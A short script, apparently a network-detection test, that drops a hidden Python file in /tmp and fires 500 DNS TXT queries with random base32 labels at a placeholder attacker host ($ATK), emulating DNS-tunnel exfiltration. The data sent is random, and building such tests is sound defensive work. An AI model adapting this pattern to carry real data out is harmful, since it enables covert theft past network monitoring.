# SPDX-License-Identifier: MIT
# technique: 500 DNS queries in a fraction of a second (data in the names)
# level: high
# quick: yes
cat >/tmp/.d.py <<X
import base64, os, socket
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(500):
    label = base64.b32encode(os.urandom(20)).decode().strip("=").lower()
    name = b"".join(bytes([len(p)]) + p.encode() for p in (label, "x%d" % i, "tunnel", "test")) + b"\0"
    u.sendto(os.urandom(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x10\x00\x01", ("$ATK", 53))
X
t0
python3 /tmp/.d.py
